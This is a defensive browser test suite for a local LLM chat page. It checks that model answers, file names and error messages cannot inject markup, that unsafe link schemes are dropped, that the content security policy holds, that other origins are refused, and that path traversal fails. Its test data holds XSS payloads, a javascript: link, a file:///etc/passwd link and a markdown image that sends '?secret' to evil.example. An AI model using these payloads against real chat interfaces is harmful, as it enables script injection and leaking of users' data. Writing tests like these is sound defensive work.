// SPDX-License-Identifier: Apache-2.0
// Hostile answers and hostile pages: rows P09 and P10 of the list of hostile inputs, headers, size.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { ask, launch, open, serve } from './harness.mjs';

let server, page, context, close;
before(async () => {
  server = await serve();
  ({ page, context, close } = await open(server.url, {
    expectErrors: /Content Security Policy|ERR_BLOCKED_BY_CSP|status of 400.*page.count/,
  }));
});
after(async () => {
  await close?.();
  await server?.stop();
});

/** The page is answered with this text, as if the model had written it. */
async function answerWith(text) {
  const frames = [];
  for (let at = 0; at < text.length; at += 4000) {
    frames.push({
      choices: [{ index: 0, delta: { content: text.slice(at, at + 4000) }, finish_reason: null }],
    });
  }
  frames.push(
    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
    { choices: [], usage: { prompt_tokens: 1, completion_tokens: 1 } },
  );
  const body =
    frames.map((frame) => `data: ${JSON.stringify(frame)}\n\n`).join('') + 'data: [DONE]\n\n';
  await page.route('**/v1/chat/completions', (route) =>
    route.fulfill({ contentType: 'text/event-stream', body }),
  );
  await page.getByRole('button', { name: 'New conversation' }).click();
  await ask(page, 'Hello!');
  await page.unroute('**/v1/chat/completions');
  return page.locator('article.assistant .body').last();
}

const DANGEROUS =
  'script, iframe, object, embed, style, link, form, input, img, svg, video, audio, base, meta, [onerror], [onclick], [onload], [style], [srcset]';

test('P09: markup in an answer is shown as text', async () => {
  const text =
    '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 1">\n\n' +
    '<svg onload="window.hacked=1"></svg> <iframe srcdoc="<script>parent.hacked=1</script>"></iframe>\n\n' +
    '<style>body{display:none}</style> <a href="javascript:window.hacked=1">go</a> <form action="https://evil.example"><input></form>';
  const body = await answerWith(text);
  assert.equal(await body.locator(DANGEROUS).count(), 0);
  assert.ok((await body.innerText()).includes('<script>window.hacked = 1</script>'));
  assert.equal(await page.evaluate(() => window.hacked), undefined);
});

test('P09: links lead to http, https and mailto only, in a window that cannot reach back', async () => {
  const body = await answerWith(
    '[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](file:///etc/passwd) ' +
      '[e](//evil.example) [f](/page/info) [g](https://good.example/?q=1) [h](mailto:a@b.example) [i]( javaScript:alert(1)) <https://angle.example/> ftp://old.example/x see setup.py',
  );
  const links = await body
    .locator('a')
    .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.rel, one.target]));
  assert.ok(links.length === 3, JSON.stringify(links));
  for (const [href, rel, target] of links) {
    assert.match(href, /^(https?|mailto):/);
    assert.ok(rel.includes('noopener') && rel.includes('noreferrer') && target === '_blank', rel);
  }
  assert.ok(links.some(([href]) => href === 'https://good.example/?q=1'));
  for (const word of ['evil.example', '/page/info', 'old.example', 'setup.py'])
    assert.ok(!links.some(([href]) => href.includes(word)), word);
});

test('addresses in a text are links, without what stands around them', async () => {
  const body = await answerWith(
    'See https://a.example/x_(y)_z, (https://b.example/?q=a_b&c=1) and **https://c.example/**. ' +
      '`https://code.example` [https://d.example/](https://e.example/) https://bücher.example/ä。 https:// xhttps://f.example ' +
      `https://g.example/${')'.repeat(5000)}`,
  );
  const links = await body
    .locator('a')
    .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.textContent]));
  assert.deepEqual(links, [
    ['https://a.example/x_(y)_z', 'https://a.example/x_(y)_z'],
    ['https://b.example/?q=a_b&c=1', 'https://b.example/?q=a_b&c=1'],
    ['https://c.example/', 'https://c.example/'],
    ['https://e.example/', 'https://d.example/'],
    ['https://xn--bcher-kva.example/%C3%A4', 'https://bücher.example/ä'],
    ['https://g.example/', 'https://g.example/'],
  ]);
});

test('P09: references to characters are the characters, and no markup', async () => {
  const body = await answerWith('&auml; &#x41; &copy;&nbsp;1 &lt;img src=x&gt; &Tab;a &nope; &amp;');
  assert.equal(await body.textContent(), 'ä A ©\u00a01 <img src=x> \ta &nope; &');
  assert.equal(await body.locator(DANGEROUS).count(), 0);
});

test('P09: huge tables, 100,000 nested quotes and unclosed code leave the page alive', async () => {
  const table = '|a|b|\n|-|-|\n' + '|x|y|\n'.repeat(3000);
  assert.equal(await (await answerWith(table)).locator('tr').count(), 3001);
  const began = Date.now();
  await answerWith('>'.repeat(100_000) + ' deep');
  await answerWith('[a](b'.repeat(10_000));
  const open_ = await answerWith('```js\nwindow.hacked = 1\n<script>');
  assert.match(await open_.locator('code').innerText(), /window\.hacked = 1/);
  assert.ok(Date.now() - began < 15_000, 'rendering took too long');
  assert.equal(await page.evaluate(() => window.hacked), undefined);
});

test('P10: a picture in an answer is a link, and no request leaves the page', async () => {
  const asked = [];
  context.on('request', (request) => asked.push(request.url()));
  const body = await answerWith(
    '![secret](https://evil.example/?secret) ![](//evil.example/b.png) ![x](data:image/png;base64,AAAA) [![in](https://evil.example/in.png)](https://evil.example/)',
  );
  assert.equal(await body.locator('img').count(), 0);
  assert.equal(
    await body.getByText('[picture: secret]').getAttribute('href'),
    'https://evil.example/?secret',
  );
  await page.waitForTimeout(300);
  assert.deepEqual(
    asked.filter((url) => url.includes('evil')),
    [],
  );
});

test('P09: titles, names of files and errors are text, too', async () => {
  await page.route('**/v1/chat/completions', (route) =>
    route.fulfill({
      contentType: 'text/event-stream',
      body: 'data: {"error":{"code":"<b>x</b>","message":"<img src=x onerror=window.hacked=1>"}}\n\n',
    }),
  );
  await page.getByRole('button', { name: 'New conversation' }).click();
  await page
    .locator('#files')
    .setInputFiles({
      name: '<img src=x onerror=window.hacked=1>.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('x'),
    });
  await page.locator('#attachments .note').filter({ hasText: 'tokens' }).waitFor();
  await page.locator('#prompt').fill('<img src=x onerror=window.hacked=1>');
  await page.keyboard.press('Enter');
  await page.locator('.error').waitFor();
  await page.unroute('**/v1/chat/completions');
  assert.equal(await page.locator('main img, aside img').count(), 0);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
});

test('scripts and styles that get into the document all the same are stopped by the policy', async () => {
  const other = await context.newPage();
  await other.goto(server.url);
  await other.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 1';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.hacked = 1');
    document.body.append(button);
    button.click();
  });
  assert.equal(await other.evaluate(() => window.hacked), undefined);
  assert.equal(
    await other.evaluate(() =>
      fetch('https://evil.example/').then(
        () => 'sent',
        () => 'stopped',
      ),
    ),
    'stopped',
  );
  await other.close();
});

test('a page of another origin can neither ask nor read nor frame', async () => {
  const stranger = createServer((request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${server.url}/"></iframe>`);
  });
  await new Promise((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  const browser = await launch();
  const own = await browser.newPage();
  await own.goto(`http://127.0.0.1:${stranger.address().port}/`);
  const tried = await own.evaluate(async (url) => {
    const question = JSON.stringify({ messages: [{ role: 'user', content: 'Hello!' }] });
    const attempt = (path, init) =>
      fetch(url + path, init).then(
        (response) => response.text(),
        () => 'refused',
      );
    return {
      read: await attempt('/page/info'),
      asked: await attempt('/v1/chat/completions', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: question,
      }),
      simple: await attempt('/v1/chat/completions', { method: 'POST', body: question }),
      blind: (
        await fetch(`${url}/v1/chat/completions`, {
          method: 'POST',
          mode: 'no-cors',
          body: question,
        }).catch(() => ({ type: 'refused' }))
      ).type,
      framed: (() => {
        try {
          return document.querySelector('iframe').contentDocument?.title ?? 'no document';
        } catch {
          return 'no document';
        }
      })(),
    };
  }, server.url);
  assert.deepEqual(
    { ...tried, blind: '' },
    { read: 'refused', asked: 'refused', simple: 'refused', blind: '', framed: 'no document' },
  );
  assert.doesNotMatch(server.log(), /POST \/v1\/chat\/completions 200/);
  await browser.close();
  stranger.close();
});

test('the files have strong tags, a strict policy, and weigh less than 200 KB', async () => {
  const html = await fetch(server.url, { headers: { Accept: 'text/html' } });
  const text = await html.text();
  assert.doesNotMatch(text, /<style|<script(?![^>]*src=)|\son\w+=|style=/);
  const policy = html.headers.get('content-security-policy');
  for (const part of [
    "default-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
  ])
    assert.ok(policy.includes(part), part);
  assert.doesNotMatch(policy, /unsafe/);
  let total = 0;
  for (const path of [
    '/',
    '/page/app.js',
    '/page/style.css',
    '/page/recorder.js',
    '/page/icon.svg',
  ]) {
    const response = await fetch(server.url + path, { headers: { Accept: 'text/html' } });
    assert.equal(response.status, 200, path);
    const { headers } = response;
    assert.match(headers.get('etag'), /^"[0-9a-f]{32}"$/);
    assert.equal(
      headers.get('permissions-policy'),
      'camera=(self), microphone=(self), display-capture=(self)',
    );
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.equal(headers.get('referrer-policy'), 'no-referrer');
    total += (await response.arrayBuffer()).byteLength;
    const again = await fetch(server.url + path, {
      headers: { Accept: 'text/html', 'If-None-Match': headers.get('etag') },
    });
    assert.equal(again.status, 304, path);
  }
  assert.ok(total < 200_000, `${total} bytes`);
  for (const path of [
    '/page/',
    '/page/../server.cc',
    '/page/%2e%2e/x',
    '/page/app.js/',
    '/page/none',
  ]) {
    assert.equal((await fetch(server.url + path)).status, 404, path);
  }
  assert.equal(await (await fetch(server.url)).text(), 'Ollama is running');
});
